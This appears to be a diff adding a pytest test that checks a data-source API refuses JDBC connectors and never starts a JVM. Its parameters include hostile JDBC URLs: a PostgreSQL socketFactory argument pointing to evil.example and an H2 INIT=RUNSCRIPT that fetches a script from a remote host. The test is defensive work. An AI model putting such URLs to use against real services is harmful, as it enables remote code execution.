@@ -236,6 +236,29 @@ def test_a_database_without_credentials_is_not_opened_as_the_server(
     assert opened == []
 
 
+@pytest.mark.parametrize(
+    "url",
+    [
+        "jdbc:postgresql://db.example.com/d",
+        "jdbc:postgresql://db.example.com/d?socketFactory=evil.Factory&socketFactoryArg=http://evil.example",
+        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'https://evil.example/x.sql'",
+        "jdbc:derby:data/shared/till;create=true",
+    ],
+)
+def test_no_source_of_a_driver_is_made_changed_or_opened_over_http(site: VersionSite, url: str) -> None:
+    door = {"name": "door", "connector": "jdbc", "url": url}
+    problem(site.client.post(API, json=door), 403, "E886")
+    problem(site.client.post(API, json={**door, "options": {"driver": "evil.Driver"}}), 403, "E886")
+    assert site.client.post(API, json=DATABASE).status_code == 201
+    problem(site.client.patch(f"{API}/db", json={"connector": "jdbc", "url": url}), 403, "E886")
+    assert [one["id"] for one in get(site)["items"]] == ["db"]
+    (site.root / "sources").mkdir(exist_ok=True)
+    (site.root / "sources" / "own.yaml").write_text(f'sources:\n  - {{name: own, connector: jdbc, url: "{url}"}}\n')
+    problem(site.client.patch(f"{API}/own", json={"url": "jdbc:h2:mem:y"}), 409, "E884")
+    assert get(site, "/own")["connector"] == "jdbc"
+    assert not site.wiring.session.started, "a JVM was started"
+
+
 def test_what_it_may_reach_is_looked_at_again_when_it_is_opened(site: VersionSite) -> None:
     add(site)
     add(site, name="late")
